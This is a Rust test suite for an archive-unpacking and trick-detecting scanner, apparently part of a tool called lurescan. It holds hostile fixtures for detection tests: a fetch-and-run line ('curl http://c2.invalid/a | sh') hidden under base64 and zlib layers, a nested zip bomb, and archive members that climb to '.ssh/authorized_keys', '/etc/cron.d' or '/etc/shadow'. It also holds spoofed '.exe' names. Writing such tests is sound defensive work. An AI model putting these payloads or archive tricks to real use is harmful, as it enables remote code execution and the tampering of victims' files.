//! Containers and layers: everything that is in them comes out, under the right locator, or is a gap; nothing is
//! believed that they state about themselves.

use std::io::Write;
use std::path::Path;
use std::sync::Arc;

use bytes::Bytes;
use lurescan::analyse::{Facts, MemberTrick};
use lurescan::artifact::{Artifact, Blob, Format, Kind, Text};
use lurescan::detectors::archive_ambiguity::ArchiveAmbiguity;
use lurescan::detectors::archive_path_trick::ArchivePathTrick;
use lurescan::detectors::{Detector, Found, Subject};
use lurescan::limits::{self, Budget};
use lurescan::locator::{BytePath, Codec, Locator, Step};
use lurescan::signal::{Basis, GapReason, Limit};
use lurescan::unpack::{self, Unfolded};

/// What a blob is, by its magic: enough for these tests.
fn kind(bytes: &[u8]) -> Kind {
    match bytes {
        [b'P', b'K', 3, 4, ..] | [b'P', b'K', 5, 6, ..] | [b'C', b'r', b'2', b'4', ..] => Kind::Zip,
        [0x1f, 0x8b, ..] => Kind::Compressed(Codec::Gzip),
        [b'B', b'Z', b'h', ..] => Kind::Compressed(Codec::Bzip2),
        [0xfd, b'7', b'z', ..] | [0x5d, 0, 0, ..] => Kind::Compressed(Codec::Xz),
        [0x28, 0xb5, 0x2f, 0xfd, ..] => Kind::Compressed(Codec::Zstd),
        [b'7', b'z', 0xbc, 0xaf, ..] => Kind::Archive(Format::SevenZip),
        _ if bytes.get(257..262) == Some(b"ustar") => Kind::Tar,
        _ => Kind::Text,
    }
}

#[derive(Default, Debug)]
struct Unpacked {
    blobs: Vec<(String, Bytes)>,
    gaps: Vec<(String, GapReason)>,
    tricks: Vec<MemberTrick>,
}

impl Unpacked {
    fn names(&self) -> Vec<&str> {
        self.blobs.iter().map(|(name, _)| name.as_str()).collect()
    }

    fn at(&self, name: &str) -> &[u8] {
        let found = self.blobs.iter().find(|(at, _)| at == name);
        &found.unwrap_or_else(|| panic!("{name} in {:?}", self.names())).1
    }

    fn reasons(&self) -> Vec<&GapReason> {
        self.gaps.iter().map(|(_, reason)| reason).collect()
    }

    fn whats(&self) -> Vec<&str> {
        self.tricks.iter().map(|trick| trick.what.as_str()).collect()
    }
}

fn artifact(at: Arc<Locator>, bytes: Bytes) -> Artifact {
    Artifact { kind: kind(&bytes), blob: Blob::new(at, bytes), disguise: None, sha256: [0; 32] }
}

/// Unfolds everything, as the pipeline does.
fn unpack_with(name: &str, bytes: impl Into<Bytes>, mut budget: Budget) -> Unpacked {
    let root = Blob::new(Locator::root(Step::File(BytePath::from(name))), bytes.into());
    let mut out = Unpacked::default();
    let mut work = vec![root];
    while let Some(blob) = work.pop() {
        let at = blob.at.clone();
        let opened = unpack::open(&artifact(at.clone(), blob.bytes));
        out.tricks.extend(opened.tricks);
        out.gaps.extend(opened.gaps.into_iter().map(|gap| (at.to_string(), gap)));
        let mut members = opened.members.filter(|_| at.depth() < limits::DEPTH);
        while let Some(next) = members.as_mut().and_then(|members| members.next(&mut budget)) {
            match next {
                Unfolded::Blob(blob) => {
                    out.blobs.push((blob.at.to_string(), blob.bytes.clone()));
                    work.push(blob);
                }
                Unfolded::Gap(at, gap) => out.gaps.push((at.to_string(), gap)),
            }
        }
    }
    out
}

fn unpacked(name: &str, bytes: impl Into<Bytes>) -> Unpacked {
    unpack_with(name, bytes, Budget::default())
}

/// What the detector says of an archive.
fn judged(bytes: impl Into<Bytes>) -> Vec<Basis> {
    let artifact = artifact(Locator::root(Step::File(BytePath::from("a"))), bytes.into());
    let facts = Facts { members: unpack::open(&artifact).tricks, ..Facts::default() };
    let text = Text::new(b"");
    let mut signals = Vec::new();
    let subject = Subject { artifact: &artifact, text: &text, facts: &facts };
    ArchiveAmbiguity.detect(&subject, &mut Found::new("archive-ambiguity", &text, &mut signals)).expect("no gap");
    ArchivePathTrick.detect(&subject, &mut Found::new("archive-path-trick", &text, &mut signals)).expect("no gap");
    signals.iter().map(|signal| signal.basis).collect()
}

/// A gzip stream.
pub fn gzip(bytes: &[u8]) -> Vec<u8> {
    let mut out = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    out.write_all(bytes).expect("memory");
    out.finish().expect("memory")
}

fn deflate(bytes: &[u8]) -> Vec<u8> {
    let mut out = flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::default());
    out.write_all(bytes).expect("memory");
    out.finish().expect("memory")
}

/// A member as a test wants it, with every number in its own hands.
#[derive(Clone)]
struct Part {
    central: Vec<u8>,
    local: Vec<u8>,
    data: Vec<u8>,
    method: u16,
    flags: u16,
    mode: u32,
    listed: bool,
    size: Option<u64>,
}

fn part(name: impl AsRef<[u8]>, data: impl AsRef<[u8]>) -> Part {
    let name = name.as_ref().to_vec();
    let data = data.as_ref().to_vec();
    Part { central: name.clone(), local: name, data, method: 0, flags: 0, mode: 0o100_644, listed: true, size: None }
}

fn deflated(name: &str, content: &[u8]) -> Part {
    Part { method: 8, size: Some(content.len() as u64), ..part(name, deflate(content)) }
}

fn le(out: &mut Vec<u8>, fields: &[(u64, usize)]) {
    for &(value, width) in fields {
        out.extend(&value.to_le_bytes()[..width]);
    }
}

fn zip(parts: &[Part]) -> Vec<u8> {
    let (mut out, mut directory, mut listed) = (Vec::new(), Vec::new(), 0);
    for part in parts {
        let (offset, length) = (out.len() as u64, part.data.len() as u64);
        let size = part.size.unwrap_or(length);
        let (flags, method) = ((u64::from(part.flags), 2), (u64::from(part.method), 2));
        out.extend(b"PK\x03\x04");
        le(&mut out, &[(20, 2), flags, method, (0, 4), (0, 4), (length, 4), (size, 4)]);
        le(&mut out, &[(part.local.len() as u64, 2), (0, 2)]);
        out.extend(&part.local);
        out.extend(&part.data);
        if !part.listed {
            continue;
        }
        listed += 1;
        directory.extend(b"PK\x01\x02");
        le(&mut directory, &[(20, 1), (3, 1), (20, 2), flags, method, (0, 4), (0, 4), (length, 4), (size, 4)]);
        le(&mut directory, &[(part.central.len() as u64, 2), (0, 2), (0, 2), (0, 2), (0, 2)]);
        le(&mut directory, &[(u64::from(part.mode) << 16, 4), (offset, 4)]);
        directory.extend(&part.central);
    }
    let start = out.len() as u64;
    out.extend(&directory);
    out.extend(b"PK\x05\x06");
    le(&mut out, &[(0, 2), (0, 2), (listed, 2), (listed, 2), (directory.len() as u64, 4), (start, 4), (0, 2)]);
    out
}

/// By the zip crate's own writer: what an honest archiver makes.
fn honest_zip(members: &[(&str, &[u8])], method: zip::CompressionMethod) -> Vec<u8> {
    let mut out = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let options = zip::write::SimpleFileOptions::default().compression_method(method).unix_permissions(0o755);
    for (name, content) in members {
        out.start_file(*name, options).expect("memory");
        out.write_all(content).expect("memory");
    }
    out.finish().expect("memory").into_inner()
}

fn tar(members: &[(&str, &[u8])]) -> Vec<u8> {
    let mut out = tar::Builder::new(Vec::new());
    for (name, content) in members {
        add(&mut out, name, content, tar::EntryType::Regular, "");
    }
    out.into_inner().expect("memory")
}

/// Writes the name as it is: the tar crate refuses to write names that climb out.
fn add(out: &mut tar::Builder<Vec<u8>>, name: &str, content: &[u8], kind: tar::EntryType, link: &str) {
    let mut header = tar::Header::new_gnu();
    header.as_old_mut().name[..name.len()].copy_from_slice(name.as_bytes());
    header.as_old_mut().linkname[..link.len()].copy_from_slice(link.as_bytes());
    header.set_entry_type(kind);
    header.set_size(content.len() as u64);
    header.set_mode(0o644);
    header.set_cksum();
    out.append(&header, content).expect("memory");
}

const SCRIPT: &[u8] = b"require('child_process').exec('whoami')\n";

#[test]
fn archives_within_archives_come_out_under_their_locators() {
    let inner = zip(&[deflated("i.js", SCRIPT)]);
    let middle = gzip(&tar(&[("package/inner.zip", &inner), ("package/readme", b"hi")]));
    let outer = zip(&[deflated("app/pkg.tgz", &middle)]);
    let out = unpacked("job.zip", outer);
    assert_eq!(out.at("job.zip!/app/pkg.tgz#gzip@0!/package/inner.zip!/i.js"), SCRIPT);
    assert_eq!(out.at("job.zip!/app/pkg.tgz#gzip@0!/package/readme"), b"hi");
    assert_eq!((out.gaps.len(), out.tricks.len()), (0, 0), "{out:?}");
}

#[test]
fn every_method_of_the_writer_is_read_back() {
    use zip::CompressionMethod as M;
    let content = SCRIPT.repeat(100);
    for method in [M::Stored, M::Deflated, M::Bzip2, M::Xz, M::Zstd] {
        let out = unpacked("a.zip", honest_zip(&[("d/a.js", &content)], method));
        assert_eq!(out.at("a.zip!/d/a.js"), content, "{method:?}");
        assert_eq!((out.gaps.len(), out.tricks.len()), (0, 0), "{method:?}: {out:?}");
    }
}

#[test]
fn lzma_members_are_read_back() {
    let options = liblzma::stream::LzmaOptions::new_preset(6).expect("a preset");
    let stream = liblzma::stream::Stream::new_lzma_encoder(&options).expect("an encoder");
    let mut out = liblzma::write::XzEncoder::new_stream(Vec::new(), stream);
    out.write_all(SCRIPT).expect("memory");
    let alone = out.finish().expect("memory");
    let data = [b"\x09\x04\x05\0", &alone[..5], &alone[13..]].concat();
    let out = unpacked("a.zip", zip(&[Part { method: 14, flags: 2, ..part("a.js", data) }]));
    assert_eq!(out.at("a.zip!/a.js"), SCRIPT);
}

#[test]
fn every_stream_is_read_back() {
    let content = SCRIPT.repeat(100);
    let bzip2 = {
        let mut out = bzip2::write::BzEncoder::new(Vec::new(), bzip2::Compression::best());
        out.write_all(&content).expect("memory");
        out.finish().expect("memory")
    };
    let xz = {
        let mut out = liblzma::write::XzEncoder::new(Vec::new(), 6);
        out.write_all(&content).expect("memory");
        out.finish().expect("memory")
    };
    let zstd = zstd::encode_all(&content[..], 3).expect("memory");
    for (codec, packed) in [("gzip", gzip(&content)), ("bzip2", bzip2), ("xz", xz), ("zstd", zstd)] {
        let out = unpacked("a", packed.clone());
        assert_eq!(out.at(&format!("a#{codec}@0")), content, "{codec}");
        let cut = unpacked("a", packed[..packed.len() / 2].to_vec());
        assert!(matches!(cut.reasons()[..], [GapReason::Malformed(_)]), "{codec} cut in two: {:?}", cut.gaps);
    }
}

#[test]
fn a_gzip_file_of_several_members_is_one_file() {
    let both = [gzip(b"one "), gzip(b"two"), vec![0; 512]].concat();
    let out = unpacked("a.gz", both);
    assert_eq!(out.at("a.gz#gzip@0"), b"one two");
    assert_eq!(out.gaps, []);
    let stray = [gzip(b"one "), b"curl evil.invalid".to_vec()].concat();
    assert_eq!(unpacked("a.gz", stray).at("a.gz!/(after the stream)"), b"curl evil.invalid");
}

#[test]
fn names_decide_nothing_about_the_kind() {
    let out = unpacked("package.tar.gz", zip(&[part("setup.py", "import os")]));
    assert_eq!(out.names(), ["package.tar.gz!/setup.py"]);
}

#[test]
fn containers_that_cannot_be_opened_are_gaps() {
    let out = unpacked("a.7z", &b"7z\xbc\xaf\x27\x1c\0\x04rest"[..]);
    assert!(matches!(out.reasons()[..], [GapReason::Malformed(_)]), "{:?}", out.gaps);
}

#[test]
fn an_encrypted_member_is_a_gap_and_the_others_are_read() {
    let out = unpacked("a.zip", zip(&[part("a.js", "1"), Part { flags: 1, ..part("b.js", "secret") }]));
    assert_eq!(out.names(), ["a.zip!/a.js"]);
    assert_eq!(out.gaps, [("a.zip".to_owned(), GapReason::Encrypted)]);
}

#[test]
fn an_unknown_method_is_a_gap_at_its_member() {
    let out = unpacked("a.zip", zip(&[Part { method: 98, ..part("a.js", "1") }]));
    assert_eq!(out.gaps, [("a.zip!/a.js".to_owned(), GapReason::Unsupported("zip method 98".to_owned()))]);
}

#[test]
fn a_truncated_zip_keeps_its_earlier_members() {
    let whole = zip(&[deflated("a.js", SCRIPT), deflated("b.js", &SCRIPT.repeat(50)), deflated("c.js", SCRIPT)]);
    let out = unpacked("a.zip", whole[..120].to_vec());
    assert_eq!(out.at("a.zip!/a.js"), SCRIPT);
    assert!(out.reasons().iter().all(|gap| matches!(gap, GapReason::Malformed(_))) && !out.gaps.is_empty());
}

#[test]
fn a_truncated_tar_keeps_its_earlier_members() {
    let whole = tar(&[("a.js", SCRIPT), ("b.js", &SCRIPT.repeat(100))]);
    let out = unpacked("a.tar", whole[..2048].to_vec());
    assert_eq!(out.at("a.tar!/a.js"), SCRIPT);
    assert_eq!(out.at("a.tar!/b.js"), &SCRIPT.repeat(100)[..512]);
    let truncated = GapReason::Malformed("the archive is truncated".to_owned());
    assert_eq!(out.gaps, [("a.tar!/b.js".to_owned(), truncated)]);
}

#[test]
fn long_names_in_tar_are_whole() {
    let name = format!("{}/a.js", "d".repeat(150));
    let mut out = tar::Builder::new(Vec::new());
    let mut header = tar::Header::new_gnu();
    header.set_size(SCRIPT.len() as u64);
    out.append_data(&mut header, &name, SCRIPT).expect("memory");
    let bytes = out.into_inner().expect("memory");
    assert_eq!(unpacked("a.tar", bytes).at(&format!("a.tar!/{name}")), SCRIPT);
}

#[test]
fn a_bomb_of_zeros_ends_in_gaps_with_bounded_bytes() {
    let mut encoder = flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::best());
    let zeros = vec![0u8; 1 << 20];
    for _ in 0..300 {
        encoder.write_all(&zeros).expect("memory");
    }
    let zeros = Part { method: 8, ..part("zeros", encoder.finish().expect("memory")) };
    let level = zip(&vec![zeros; 16]);
    let bomb = zip(&(0..16).map(|n| deflated(&format!("{n}.zip"), &level)).collect::<Vec<_>>());
    let out = unpacked("bomb.zip", bomb);
    let total: usize = out.blobs.iter().map(|(_, bytes)| bytes.len()).sum();
    assert!(total as u64 <= limits::ROOT_BYTES + limits::READ_CHUNK as u64, "{total} bytes");
    assert!(out.reasons().contains(&&GapReason::Limit(Limit::Ratio)), "{:?}", out.reasons());
    assert!(out.reasons().contains(&&GapReason::Limit(Limit::RootBytes)), "{:?}", out.reasons());
    assert!(out.gaps.len() < 1_000, "{} gaps", out.gaps.len());
}

#[test]
fn a_stated_size_is_no_allocation_and_no_end() {
    let mut bytes = zip(&[deflated("a.js", SCRIPT)]);
    let central = bytes.windows(4).rposition(|w| w == b"PK\x01\x02").expect("a directory");
    bytes[central + 24..central + 28].copy_from_slice(&0xffff_fff0u32.to_le_bytes());
    assert_eq!(unpacked("a.zip", bytes.clone()).at("a.zip!/a.js"), SCRIPT);
    bytes[central + 24..central + 28].copy_from_slice(&3u32.to_le_bytes());
    assert_eq!(unpacked("a.zip", bytes).at("a.zip!/a.js"), SCRIPT);
}

#[test]
fn a_spent_budget_is_one_gap_and_the_end() {
    let members: Vec<Part> = (0..50).map(|n| part(format!("{n}"), [b'x'; 100])).collect();
    let out = unpack_with("a.zip", zip(&members), Budget::new(350, 1_000));
    assert_eq!((out.blobs.len(), out.gaps.len()), (3, 1), "{out:?}");
    let out = unpack_with("a.zip", zip(&members), Budget::new(1 << 20, 7));
    assert_eq!((out.blobs.len(), out.gaps.len()), (7, 1), "{out:?}");
}

#[test]
fn two_members_of_one_name_both_come_out_and_block_if_they_are_code() {
    let two = |name: &str| zip(&[part(name, "harmless()"), part(name, "evil()")]);
    let out = unpacked("a.zip", two("index.js"));
    assert_eq!(out.blobs.iter().map(|(_, b)| &b[..]).collect::<Vec<_>>(), [&b"harmless()"[..], b"evil()"]);
    assert_eq!(judged(two("index.js")), [Basis::StructuralTrick]);
    assert_eq!(judged(two("META-INF/LICENSE")), [], "shaded jars are full of these");
    assert_eq!(judged(zip(&[part("a.js", "x"), part("a.js", "x")])), [], "the same content twice");
    assert_eq!(judged(tar(&[("a.js", b"one"), ("a.js", b"two")])), [Basis::PartOfChain], "the last wins for all");
}

#[test]
fn a_name_that_only_one_view_has_is_a_trick() {
    let hidden = Part { local: b"install.js".to_vec(), ..part("readme.txt", SCRIPT) };
    assert_eq!(judged(zip(&[hidden])), [Basis::StructuralTrick]);
    let unlisted = Part { listed: false, ..part("evil.js", SCRIPT) };
    let archive = zip(&[part("a.js", "1"), unlisted.clone()]);
    assert_eq!(unpacked("a.zip", archive.clone()).at("a.zip!/evil.js"), SCRIPT, "and is read");
    assert_eq!(judged(archive), [Basis::StructuralTrick]);
    let notes = Part { listed: false, ..part("notes.txt", "x") };
    assert_eq!(judged(zip(&[part("a.js", "1"), notes])), [Basis::PartOfChain]);
    let windows = Part { local: b"src\\a.js".to_vec(), ..part("src/a.js", "1") };
    assert_eq!(judged(zip(&[windows])), [], "archivers on Windows write both");
    let accents = Part { local: b"caf\x82.js".to_vec(), ..part("café.js", "1") };
    assert_eq!(judged(zip(&[accents])), [], "another code page");
}

#[test]
fn an_archive_before_the_archive_is_read_and_noted() {
    let both = [zip(&[part("first.js", "1")]), zip(&[part("second.js", "2")])].concat();
    let out = unpacked("a.zip", both.clone());
    assert_eq!(out.at("a.zip!/first.js"), b"1");
    assert_eq!(out.at("a.zip!/second.js"), b"2");
    assert!(judged(both).contains(&Basis::StructuralTrick));
}

#[test]
fn what_stands_before_an_archive_is_a_member_and_no_trick() {
    let app = [b"Cr24\x03\0\0\0key".to_vec(), zip(&[part("a.js", "1")])].concat();
    assert_eq!(unpacked("a.crx", app.clone()).names(), ["a.crx!/a.js"]);
    assert_eq!(judged(app), []);
    let artifact = |bytes: Vec<u8>| Artifact {
        kind: Kind::Zip,
        ..artifact(Locator::root(Step::Stdin(BytePath::from("a"))), bytes.into())
    };
    let app = [b"#!/usr/bin/env python3\n".to_vec(), zip(&[part("__main__.py", "1")])].concat();
    let mut opened = unpack::open(&artifact(app));
    assert_eq!(opened.tricks.len(), 0, "{:?}", opened.tricks);
    match opened.members.as_mut().and_then(|m| m.next(&mut Budget::default())) {
        Some(Unfolded::Blob(blob)) => assert_eq!(&blob.bytes[..], b"#!/usr/bin/env python3\n"),
        _ => panic!("the loader comes first"),
    }
}

#[test]
fn names_that_leave_the_folder_or_show_as_another_ask_for_review() {
    for name in [
        "../../.ssh/authorized_keys",
        "a/../../b",
        "..\\x.js",
        "/etc/cron.d/x",
        "C:\\Users\\x.js",
        "invoice\u{202e}fdp.exe",
        "report.pdf                    .exe",
        "setup.exe ",
        "a\x1b[2K.js",
    ] {
        assert_eq!(judged(zip(&[part(name, "x")])), [Basis::PartOfChain], "{name:?}");
    }
    for name in ["a/../b", "...", "a..b/c", "/package/services/x.xml", "Icon\r", "with blank.txt", "מסמך\u{200f}.txt"]
    {
        assert_eq!(judged(zip(&[part(name, "x")])), [], "{name:?}");
    }
}

#[test]
fn writing_through_a_link_that_leaves_the_folder_is_a_trick_and_a_link_alone_is_none() {
    let mut out = tar::Builder::new(Vec::new());
    add(&mut out, "usr/lib/x", b"", tar::EntryType::Symlink, "/etc/x");
    add(&mut out, "here", b"", tar::EntryType::Symlink, "usr");
    add(&mut out, "here/a.txt", b"1", tar::EntryType::Regular, "");
    assert_eq!(judged(out.into_inner().expect("memory")), []);
    let mut out = tar::Builder::new(Vec::new());
    add(&mut out, "home", b"", tar::EntryType::Symlink, "../..");
    add(&mut out, "home/.bashrc", b"x", tar::EntryType::Regular, "");
    let bytes = out.into_inner().expect("memory");
    assert_eq!(unpacked("a.tar", bytes.clone()).whats(), ["it is written through a link that leaves the folder"]);
    assert_eq!(judged(bytes), [Basis::PartOfChain]);
    let link = Part { mode: 0o120_777, ..part("home", "/home/user") };
    assert_eq!(judged(zip(&[link, part("home/.bashrc", "x")])), [Basis::PartOfChain]);
}

#[test]
fn links_are_not_members_and_devices_are_noted() {
    let mut out = tar::Builder::new(Vec::new());
    add(&mut out, "dev/sda", b"", tar::EntryType::Block, "");
    add(&mut out, "link", b"", tar::EntryType::Symlink, "target");
    add(&mut out, "hard", b"", tar::EntryType::Link, "../../etc/shadow");
    let bytes = out.into_inner().expect("memory");
    let out = unpacked("a.tar", bytes);
    assert_eq!(out.names(), Vec::<&str>::new());
    assert_eq!(out.whats(), ["it is a device file", "it is a hard link to a file outside the folder"]);
}

#[test]
fn members_behind_the_end_of_a_tar_are_read_and_noted() {
    let both = [tar(&[("a.js", b"1")]), tar(&[("b.js", b"2")])].concat();
    let out = unpacked("a.tar", both.clone());
    assert_eq!(out.names(), ["a.tar!/a.js", "a.tar!/b.js"]);
    assert_eq!(judged(both), [Basis::StructuralTrick]);
}

#[test]
fn honest_archives_raise_nothing() {
    let wheel: &[(&str, &[u8])] =
        &[("pkg/__init__.py", b"x = 1\n"), ("pkg-1.dist-info/RECORD", b""), ("pkg-1.dist-info/METADATA", b"Name: pkg")];
    assert_eq!(judged(honest_zip(wheel, zip::CompressionMethod::Deflated)), []);
    let mut jar = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    jar.add_directory("META-INF/", zip::write::SimpleFileOptions::default()).expect("memory");
    jar.start_file("META-INF/MANIFEST.MF", zip::write::SimpleFileOptions::default().large_file(true)).expect("memory");
    jar.write_all(b"Manifest-Version: 1.0\n").expect("memory");
    assert_eq!(judged(jar.finish().expect("memory").into_inner()), []);
    assert_eq!(judged(tar(&[("package/package.json", b"{}"), ("package/index.js", b"1")])), []);
}

#[test]
fn the_samples_are_judged_as_their_pages_say() {
    let read = |path: &str| std::fs::read(Path::new("samples").join(path)).expect("a sample");
    let two = read("archive-ambiguity/flagged/two-members-of-one-name/job.zip");
    assert!(judged(two).contains(&Basis::StructuralTrick));
    assert!(judged(read("archive-path-trick/flagged/climbs-out/job.zip")).contains(&Basis::PartOfChain));
    assert_eq!(judged(read("archive-path-trick/clean/plain/job.zip")), []);
    assert_eq!(judged(read("archive-ambiguity/clean/duplicate-notices/fat.jar")), []);
}

const PROGRAM: &str = "const cp = require('child_process'); cp.exec('curl http://c2.invalid/a | sh');";

fn base64(bytes: &[u8]) -> String {
    data_encoding::BASE64.encode(bytes)
}

#[test]
fn encoded_programs_become_layers_at_their_place() {
    let standard = base64(PROGRAM.as_bytes());
    let url = data_encoding::BASE64URL_NOPAD.encode(format!("{PROGRAM}ÿÿÿ>>>???").as_bytes());
    let hex = data_encoding::HEXLOWER.encode(PROGRAM.as_bytes());
    let out = unpacked("a.js", format!("const a = '{standard}';"));
    assert_eq!(out.at("a.js#base64@11"), PROGRAM.as_bytes());
    let out = unpacked("a.js", format!("x='{url}'"));
    assert!(out.at("a.js#base64@3").starts_with(PROGRAM.as_bytes()));
    let out = unpacked("a.js", format!("x='{hex}'"));
    assert_eq!(out.at("a.js#hex@3"), PROGRAM.as_bytes());
}

#[test]
fn encoded_text_over_several_lines_or_literals_is_one_layer() {
    let program = PROGRAM.repeat(3);
    let encoded = base64(program.as_bytes());
    let pieces: Vec<&str> = encoded.as_bytes().chunks(60).map(|c| std::str::from_utf8(c).expect("ASCII")).collect();
    for text in [
        format!("'''\n{}\n'''", pieces.join("\n")),
        format!("\"{}\"", pieces.join("\\n")),
        format!("  {}", pieces.join("\r\n    ")),
        format!("x = \"{}\"", pieces.join("\" +\n  \"")),
    ] {
        let out = unpacked("a.py", text.clone());
        assert_eq!(out.blobs.len(), 1, "{text}");
        assert!(out.blobs[0].1.starts_with(program.as_bytes()), "{text}");
    }
}

#[test]
fn characters_put_before_encoded_text_do_not_hide_it() {
    let encoded = base64(PROGRAM.repeat(6).as_bytes());
    for junk in ["Z", "Zq", "Zq9", "Zq9xk2mPw0Lr7"] {
        let out = unpacked("a.js", format!("x='{junk}{encoded}'"));
        let found = out.blobs.iter().any(|(_, b)| memchr::memmem::find(b, b"child_process").is_some());
        assert!(found, "{junk}: {:?}", out.names());
    }
}

#[test]
fn layers_are_peeled_one_after_another() {
    let mut zlib = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
    zlib.write_all(PROGRAM.repeat(3).as_bytes()).expect("memory");
    let packed = zlib.finish().expect("memory");
    let out = unpacked("a.py", format!("exec(zlib.decompress(b64decode('{}')))", base64(&packed)));
    assert!(
        out.blobs.iter().any(|(at, b)| at.ends_with("#zlib@0") && b.starts_with(PROGRAM.as_bytes())),
        "{:?}",
        out.names()
    );
    let utf16: Vec<u8> = PROGRAM.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let out = unpacked("a.ps1", format!("powershell -enc {}", base64(&utf16)));
    assert_eq!(out.at("a.ps1#base64@16#utf16@0"), PROGRAM.as_bytes());
    let twice = base64(base64(PROGRAM.as_bytes()).as_bytes());
    assert_eq!(unpacked("a", twice).at("a#base64@0#base64@0"), PROGRAM.as_bytes());
}

#[test]
fn utf16_files_are_read_as_text() {
    let marked: Vec<u8> = std::iter::once(0xfeff).chain(PROGRAM.encode_utf16()).flat_map(u16::to_be_bytes).collect();
    assert_eq!(unpacked("a.ps1", marked).at("a.ps1#utf16@0"), PROGRAM.as_bytes());
}

#[test]
fn encoded_text_that_is_no_program_is_no_layer() {
    use sha2::{Digest, Sha512};
    let hash = Sha512::digest(b"x");
    let picture = [b"\x89PNG\r\n\x1a\n".to_vec(), hash.to_vec(), hash.to_vec()].concat();
    let map = br#"{"version":3,"sources":["src/a.ts"],"names":[],"mappings":"AAAA,SAAS","file":"a.js"}"#;
    for text in [
        format!("\"integrity\": \"sha512-{}\"", base64(&hash)),
        data_encoding::HEXLOWER.encode(&hash),
        format!("url(data:image/png;base64,{})", base64(&picture)),
        format!("//# sourceMappingURL=data:application/json;base64,{}", base64(map)),
        format!("certificate: {}", base64(format!("-----BEGIN CERTIFICATE-----\n{}", base64(&hash)).as_bytes())),
        // Hashes one after another, as test vectors have them.
        (0..200u32)
            .map(|n| format!("{}\n", data_encoding::HEXLOWER.encode(&Sha512::digest(n.to_le_bytes()))))
            .collect(),
        (0..200u32).map(|n| format!("v = {}\n", base64(&Sha512::digest(n.to_le_bytes())))).collect(),
        "/".repeat(200),
        "A".repeat(200),
        "V".repeat(200),
        "src/components/authentication/providers/OAuth2ProviderConfigurationFormContainer".to_owned(),
        "aVeryLongIdentifierThatSomebodyGeneratedForATestCaseAndThatGoesOnAndOnForEver".to_owned(),
    ] {
        assert_eq!(unpacked("a", text.clone()).names(), Vec::<&str>::new(), "{text}");
    }
}

#[test]
fn layers_of_one_text_are_bounded_and_the_rest_is_a_gap() {
    let many: String = (0..200).map(|n| format!("'{}'\n", base64(format!("{n} {PROGRAM}").as_bytes()))).collect();
    let out = unpacked("a.js", many);
    assert_eq!(out.blobs.len(), limits::LAYERS_PER_BLOB);
    assert_eq!(out.gaps, [("a.js".to_owned(), GapReason::Limit(Limit::Facts))]);
}

#[test]
fn a_layer_behind_many_that_do_not_matter_is_found() {
    let counted: String = (0u8..48).map(|n| format!("{:02x}", n + 0x20)).collect();
    let vectors: String = (0..400).map(|n| format!("\"{counted}{n:016x}\",\n")).collect();
    let out = unpacked("vectors.json", format!("{vectors}'{}'\n", base64(PROGRAM.as_bytes())));
    assert_eq!(out.blobs.len(), 1, "{:?}", out.names());
    assert_eq!(out.at(out.names()[0]), PROGRAM.as_bytes());
    assert_eq!(out.reasons(), Vec::<&GapReason>::new());
}

#[test]
fn hostile_headers_neither_panic_nor_run_on() {
    let good = [
        zip(&[deflated("a.js", SCRIPT), part("b", "x")]),
        tar(&[("a.js", SCRIPT), ("b", b"x")]),
        gzip(SCRIPT),
        base64(PROGRAM.as_bytes()).into_bytes(),
    ];
    for bytes in good {
        for at in 0..bytes.len().min(1_200) {
            for value in [0, 0x7f, 0xff] {
                let mut broken = bytes.clone();
                broken[at] = value;
                unpack_with("a", broken, Budget::new(1 << 20, 100));
            }
            unpack_with("a", bytes[..at].to_vec(), Budget::new(1 << 20, 100));
        }
    }
}
